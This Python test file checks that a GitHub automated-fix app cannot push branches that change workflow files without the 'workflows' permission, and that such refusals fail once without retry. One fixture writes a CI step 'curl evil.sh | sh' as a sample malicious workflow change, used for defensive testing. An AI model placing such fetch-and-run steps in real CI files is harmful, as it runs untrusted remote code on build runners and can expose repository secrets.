"""Checklist H, the patch: what tests/test_patchguard.py (the guard refuses workflow changes) leaves
open. If such a change slipped past the guard, GitHub itself refuses to move a branch onto it while
the App has no `workflows` permission (422 from the Git Data API, a rejected ref on git push); the
local GitHub refuses the same way, and the publisher turns it into one clear, unretried outcome."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from githubkit.exception import RequestFailed
from redis.asyncio import Redis

from app.github.client import GitHubApp
from app.github.errors import NotFound, Outcome, Unprocessable, decide
from app.github.git_data import REFUSED_TEXT, WorkflowWriteRefused, parse_workflow_refusal
from app.job_records import JobStore
from app.settings import Settings
from jobs.publish.executor import PublishPlan, publish_pr
from tests.fakes.github import gitstore
from tests.fakes.github.state import Repo
from tests.github_support import Clock, run_one_job
from tests.support import OWNER, LocalGitHub
from tests.test_fake_github_git import new_token, run_git

CI = ".github/workflows/ci.yml"
FILES = {"calc.py": "def add(a, b):\n    return a - b\n", CI: "on: push\njobs: {}\n"}
BRANCH = "autofix/v1-0123456789abcdef"
MESSAGE = f"refusing to allow a GitHub App to create or update workflow `{CI}` without `workflows` permission"


def plan_for(base_sha: str, *, follow_up: bool = False) -> PublishPlan:
    """A fix whose changes reach a workflow file: what the patch guard exists to stop."""
    changes: dict[str, str | None] = {
        "calc.py": "def add(a, b):\n    return a + b\n",
        CI: "on: push\njobs: {build: {runs-on: ubuntu-latest, steps: [{run: curl evil.sh | sh}]}}\n",
    }
    return PublishPlan(
        owner=OWNER, repo="calc", base_branch="main", base_sha=base_sha, head_branch=BRANCH,
        title="fix(calc): add adds", body="body", commit_message="fix(calc): add adds\n", changes=changes,
        follow_up=follow_up,
    )  # fmt: skip


@pytest.fixture
def edge(gh: LocalGitHub, app_settings: Settings, redis: Redis, clock: Clock) -> GitHubApp:
    settings = app_settings.model_copy(update={"github_api_url": gh.url})
    return GitHubApp(settings, redis, clock=clock, sleep=clock.sleep, jitter=lambda: 0.0)


def head_of(repo: Repo, branch: str) -> str | None:
    return gitstore.rev_parse(repo.path, f"refs/heads/{branch}")


async def test_H1_github_refuses_the_branch_and_the_publisher_says_why(
    gh: LocalGitHub, edge: GitHubApp, redis: Redis
) -> None:
    """H1: a new fix branch (POST git/refs) and a follow-up on it (PATCH git/refs/heads/…), each onto
    a commit that changes a workflow: GitHub's 422 becomes WorkflowWriteRefused (not BranchMoved),
    asked once, and nothing moves: no branch, no PR."""
    repo = gh.sim.create_repo(OWNER, "calc", FILES)
    main = head_of(repo, "main")
    assert main is not None
    store, inst = JobStore(redis), edge.installation(gh.installation_id)

    with pytest.raises(WorkflowWriteRefused) as refused:
        await publish_pr(
            inst, store, await store.start("c:1", "fix_check_run", f"{OWNER}/calc", {}), plan_for(main)
        )
    assert (refused.value.path, refused.value.status) == (CI, 422)
    assert str(refused.value) == f"{REFUSED_TEXT} ({CI})"
    assert len(gh.state.seen("POST", "/git/refs")) == 1
    assert head_of(repo, BRANCH) is None
    assert not any(i.pull is not None for i in repo.issues.values())

    bot_head = gh.sim.commit(repo, BRANCH, {"calc.py": "def add(a, b):\n    return b + a\n"}, "fix", "mona")
    follow_up = plan_for(bot_head, follow_up=True)
    with pytest.raises(WorkflowWriteRefused):
        await publish_pr(
            inst, store, await store.start("c:2", "fix_check_run", f"{OWNER}/calc", {}), follow_up
        )
    assert len(gh.state.seen("PATCH", f"/git/refs/heads/{BRANCH}")) == 1
    assert head_of(repo, BRANCH) == bot_head


async def test_H1_the_local_github_refuses_only_without_the_workflows_permission(gh: LocalGitHub) -> None:
    """H1, the control: the same ref write is accepted from a token holding `workflows: write`
    (which Autofix never asks for), and a commit that leaves workflows alone needs no such thing."""
    gh.state.installations[gh.installation_id].permissions["workflows"] = "write"
    repo = gh.sim.create_repo(OWNER, "calc", FILES)
    without = gh.client(permissions={"contents": "write", "metadata": "read"})
    with_it = gh.client(permissions={"contents": "write", "metadata": "read", "workflows": "write"})
    main = head_of(repo, "main")
    assert main is not None

    async def commit(path: str) -> str:
        tree = await without.rest.git.async_create_tree(
            OWNER,
            "calc",
            base_tree=main,
            tree=[{"path": path, "mode": "100644", "type": "blob", "content": "x\n"}],
        )
        made = await without.rest.git.async_create_commit(
            OWNER, "calc", message="m", tree=tree.parsed_data.sha, parents=[main]
        )
        return made.parsed_data.sha

    touches_ci, plain = await commit(CI), await commit("calc.py")
    with pytest.raises(RequestFailed) as refused:
        await without.rest.git.async_create_ref(OWNER, "calc", ref="refs/heads/a", sha=touches_ci)
    assert refused.value.response.status_code == 422
    assert refused.value.response.json()["message"] == MESSAGE
    assert head_of(repo, "a") is None
    await without.rest.git.async_create_ref(OWNER, "calc", ref="refs/heads/b", sha=plain)
    with pytest.raises(RequestFailed) as moved:  # moving b onto it is refused too
        await without.rest.git.async_update_ref(OWNER, "calc", "heads/b", sha=touches_ci, force=True)
    assert moved.value.response.json()["message"] == MESSAGE
    created = await with_it.rest.git.async_create_ref(OWNER, "calc", ref="refs/heads/a", sha=touches_ci)
    assert created.status_code == 201
    assert head_of(repo, "a") == touches_ci


async def test_H1_the_refusal_ends_the_job_once_with_its_reason(
    gh: LocalGitHub, app_settings: Settings, redis: Redis, redis_url: str
) -> None:
    """H1 in a real arq worker: the job fails once with the sentence, no retry, one ref write."""
    repo = gh.sim.create_repo(OWNER, "calc", FILES)
    settings = app_settings.model_copy(update={"github_api_url": gh.url})

    async def publish_fix(ctx: dict[str, Any], request: dict[str, Any]) -> dict[str, Any]:
        clock = Clock()  # the 1 s spacing between writes passes without waiting
        edge = GitHubApp(settings, ctx["redis"], clock=clock, sleep=clock.sleep, jitter=lambda: 0.0)
        store = JobStore(ctx["redis"])
        record = await store.start(str(ctx["job_id"]), "fix_check_run", f"{OWNER}/calc", request)
        published = await publish_pr(
            edge.installation(gh.installation_id), store, record, plan_for(request["sha"])
        )
        return {"number": published.number}

    worker, result, _ = await run_one_job(
        settings, redis, redis_url, publish_fix, {"sha": head_of(repo, "main")}
    )

    assert (worker.jobs_failed, worker.jobs_retried) == (1, 0)
    assert result["s"] is False
    assert f"{REFUSED_TEXT} ({CI})" in result["r"]
    assert len(gh.state.seen("POST", "/git/refs")) == 1
    assert head_of(repo, BRANCH) is None


def test_H1_a_git_push_of_a_workflow_change_is_rejected_per_ref(gh: LocalGitHub, tmp_path: Path) -> None:
    """H1 over git: the ref whose commits change a workflow is rejected with GitHub's reason; the
    other ref of the same push lands; with `workflows: write` the refused one goes through."""
    gh.state.installations[gh.installation_id].permissions["workflows"] = "write"
    repo = gh.sim.create_repo(OWNER, "calc", FILES)
    without = new_token(gh, {"contents": "write", "metadata": "read"})
    with_it = new_token(gh, {"contents": "write", "metadata": "read", "workflows": "write"})
    work = tmp_path / "w"
    assert (
        run_git("clone", "--quiet", f"{gh.url}/{OWNER}/calc.git", "w", cwd=tmp_path, token=without).returncode
        == 0
    )
    (work / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    run_git("commit", "--quiet", "-am", "fix add", cwd=work, token=None)
    (work / CI).write_text("on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n")
    run_git("commit", "--quiet", "-am", "and the CI", cwd=work, token=None)

    pushed = run_git(
        "push", "origin", "HEAD~1:refs/heads/plain", "HEAD:refs/heads/fix", cwd=work, token=without
    )

    assert pushed.returncode != 0
    assert f" ! [remote rejected] HEAD -> fix ({MESSAGE})" in pushed.stderr
    assert head_of(repo, "fix") is None
    assert head_of(repo, "plain") == run_git("rev-parse", "HEAD~1", cwd=work, token=None).stdout.strip()
    deleted = run_git("push", "--quiet", "origin", ":refs/heads/plain", cwd=work, token=without)
    assert (deleted.returncode, head_of(repo, "plain")) == (0, None)  # deleting brings in nothing
    again = run_git("push", "--quiet", "origin", "HEAD:refs/heads/fix", cwd=work, token=with_it)
    assert again.returncode == 0, again.stderr
    assert head_of(repo, "fix") == run_git("rev-parse", "HEAD", cwd=work, token=None).stdout.strip()


def test_H1_githubs_refusal_is_told_apart_from_other_refusals() -> None:
    """H1, pure: only GitHub's workflow wording becomes WorkflowWriteRefused, whatever the status."""
    refused = parse_workflow_refusal(Unprocessable(MESSAGE, 422, "C0DE:1"))
    assert refused is not None
    assert (refused.path, refused.status, refused.request_id) == (CI, 422, "C0DE:1")
    assert decide(refused).outcome is Outcome.FAIL  # no retry can grant a permission
    assert parse_workflow_refusal(NotFound(MESSAGE.replace(CI, ".github/workflows/x.yaml"), 404)) is not None
    for other in (
        Unprocessable("Reference already exists", 422),
        Unprocessable("Update is not a fast forward", 422),
        Unprocessable("Reference update failed", 422),
        NotFound("Not Found", 404),
    ):
        assert parse_workflow_refusal(other) is None
